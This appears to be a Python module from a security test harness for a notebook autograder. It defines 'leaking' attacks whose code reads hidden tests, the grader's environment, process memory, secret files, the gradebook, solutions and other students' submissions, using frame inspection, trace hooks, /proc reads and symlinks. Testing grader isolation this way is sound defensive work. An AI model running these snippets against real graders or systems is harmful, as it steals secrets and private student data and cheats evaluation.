"""Leaking: what belongs to the grader, printed where the learner will read it."""

from collections.abc import Callable
from dataclasses import replace

from attacks.attack import FEEDBACK, Attack, Files, Link, Sheet
from attacks.evidence import leaked, loot, on_page
from attacks.target import Target

SHOW = """
import re
def show(name, text):
    text = text if isinstance(text, str) else text.decode('utf-8', 'replace')
    for word in sorted(set(re.findall(t.mark + '[a-z]*-?[0-9a-f]+', text))):
        print('LOOT', name, word)
"""

HOOKS = {
    "history": ("hidden tests through the history", "hidden", "totals_hidden", """
for source in In:
    show('In', source)
"""),
    "shared-names": ("hidden tests through shared names", "hidden", "totals_hidden", """
for name, value in list(globals().items()):
    if name not in ('t', 'show'):
        show(name, repr(value))
"""),
    "frames": ("hidden tests through frames", "hidden", "churn_rate", """
real = churn_rate
def churn_rate(opening, lost):
    frame = sys._getframe(1)
    while frame:
        show('constants', repr(frame.f_code.co_consts))
        frame = frame.f_back
    return real(opening, lost)
"""),
    "trace-hook": ("hidden tests through hooks", "hidden", "churn_rate", """
def trace(frame, event, argument):
    if frame.f_code.co_filename.startswith('/tmp/ipykernel'):
        show('locals', repr({k: v for k, v in frame.f_locals.items() if k != 't'}))
    elif frame.f_code.co_name in ('close', 'require'):
        show('caller', repr(frame.f_back.f_code.co_consts))
    return None
sys.settrace(trace)
"""),
    "garbage-collector": ("hidden tests through gc", "hidden", "totals_hidden", """
import gc
for held in gc.get_objects():
    if isinstance(held, (list, tuple)) and any(isinstance(x, str) and t.mark in x for x in held):
        show('gc', repr([x for x in held if isinstance(x, str)]))
"""),
    "run-hook": ("hidden tests through shell events", "hidden", "churn_rate", """
get_ipython().events.register('pre_run_cell', lambda info: show('cell', info.raw_cell))
"""),
    "own-folder": ("hidden tests through files", "hidden", "totals_hidden", """
for path in glob.glob('*.ipynb') + glob.glob('../*/*.ipynb'):
    show(path, open(path).read())
"""),
    "remembered-arguments": ("hidden tests' data, remembered", "argument", "churn_rate", """
seen = []
def churn_rate(opening, lost):
    seen.append(opening)
    return lost / opening
"""),
    "arguments-raised": ("hidden tests' data in an error's text", "argument", "churn_rate", """
def churn_rate(opening, lost):
    if opening > 1000:
        raise ValueError(f'LOOT {opening}')
    return lost / opening
"""),
}  # fmt: skip

PLACES = """
import sqlite3
def rows(path):
    with sqlite3.connect('file:' + path + '?mode=ro', uri=True) as book:
        return repr(book.execute('SELECT * FROM student').fetchall())
def attempt(name, read):
    try:
        show(name, read())
    except Exception:
        pass
attempt('secret', lambda: 'secret ' + t.mark + open(t.secret).read())
attempt('gradebook', lambda: rows(t.gradebook))
for place in filter(None, (t.source, t.assignments, t.submitted, t.worlds, '/opt/cvm')):
    for path in glob.glob(place + '/**/*', recursive=True):
        if path.endswith(('.ipynb', '.csv', '.parquet')):
            attempt(path, lambda: open(path, 'rb').read())
"""
TAKEN = ("secret", "gradebook", "solution", "neighbour", "world")

WAYS = {
    "own-environment": ("the environment", "environment", """
for name, value in os.environ.items():
    show(name, t.mark + value if 'SECRET' in name else value)
"""),
    "process-list": ("the process list", "process", """
for path in glob.glob('/proc/[0-9]*/cmdline'):
    try:
        show(path, open(path, 'rb').read().replace(b'\\0', b'\\n'))
    except OSError:
        pass
"""),
    "parents-environment": ("the grader's environment", "environment", """
for pid in (os.getppid(), t.victim):
    show(pid, open(f'/proc/{pid}/environ', 'rb').read().replace(b'\\0', b'\\n'))
"""),
    "parents-files": ("the grader's open files", "hidden", """
base = f'/proc/{os.getppid()}/fd'
for number in os.listdir(base):
    link = os.readlink(f'{base}/{number}')
    if link.startswith('/') and os.path.isfile(link):
        show(link, open(f'{base}/{number}', 'rb').read())
"""),
    "parents-root": ("the grader's root and working directory", "secret", """
base = f'/proc/{os.getppid()}/root'
for name in (t.cohort, t.secret):
    show(name, t.mark + open(base + name).read())
"""),
    "parents-memory": ("the grader's memory", "environment", """
pid = t.victim
for line in open(f'/proc/{pid}/maps'):
    if '[stack]' in line or '[heap]' in line:
        start, end = (int(n, 16) for n in line.split()[0].split('-'))
        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
            memory.seek(start)
            show(pid, memory.read(end - start).replace(b'\\0', b'\\n'))
"""),
    "editable-install": ("solutions through the installed package", "", """
import cvmgrade
here = os.path.dirname(cvmgrade.__file__)
for path in glob.glob(here + '/../../notebooks/assignments/*/*.ipynb') + glob.glob(here + '/**/*'):
    if os.path.isfile(path) and 'BEGIN ' + 'SOLUTION' in open(path, errors='replace').read():
        if path.endswith('.ipynb'):
            print('LOOT', path)
"""),
    "shell-magic": ("files through shell magics", "outside", """
!cat {t.cohort} > taken.txt
taken = open('taken.txt').read()
held = !cat {t.outside}/kept.txt
show('magic', taken)
show('magic', held.n)
"""),
}  # fmt: skip


def hooked(after: str, code: str) -> Callable[[Target], Sheet]:
    def make(t: Target) -> Sheet:
        sheet = t.sheet().add(t.facts() + SHOW + code, after)
        if "seen.append" in code:
            sheet.add("print('LOOT', seen)", "totals_hidden")
        return sheet

    return make


def looked(code: str) -> Callable[[Target], Sheet]:
    def make(t: Target) -> Sheet:
        more = {"victim": t.victim()} if "victim" in code or "cmdline" in code else {}
        return t.sheet().add(t.facts(**more) + SHOW + code)

    return make


def linked(t: Target) -> Files:
    """Hand in links to the grader's files beside an honest notebook."""
    return t.sheet().files("linked-files") | {
        "linked-files/notes.txt": Link(str(t.root / "secret")),
        "linked-files/more.txt": Link(str(t.outside / "kept.txt")),
    }


LEFT = """
for name, path in (('a.txt', t.cohort), ('b.txt', t.outside + '/kept.txt')):
    for folder in ('.', t.home):
        try:
            os.symlink(path, f'{folder}/{name}')
        except OSError:
            pass
"""

ATTACKS = [
    *(Attack(name, threat, hooked(after, code), leaked(kind),
             honest=4 if kind == "argument" else 2)
      for name, (threat, kind, after, code) in HOOKS.items()),
    Attack("graders-files", "gradebook, other submissions, solutions, truth, secret",
           looked(PLACES), leaked(*TAKEN)),
    *(Attack(name, threat, looked(code), leaked(kind) if kind else loot)
      for name, (threat, kind, code) in WAYS.items()),
    Attack("plain-feedback", "hidden tests in feedback pages", lambda t: t.sheet(),
           on_page("hidden"), exact=True, plain=FEEDBACK),
    Attack("linked-files", "symlink in the submission", linked, on_page("secret"), plain=FEEDBACK,
           ends=frozenset({"graded", "refused"})),
    Attack("links-left", "symlinks in the output directory", looked(LEFT), on_page("cohort"),
           plain=FEEDBACK),
]  # fmt: skip
SEEN = "a function sees what it is called with; worlds are renewed in each round"
LETS = {"remembered-arguments": SEEN, "arguments-raised": SEEN}
ATTACKS = [replace(attack, family="leaking", lets=LETS.get(attack.name, "")) for attack in ATTACKS]
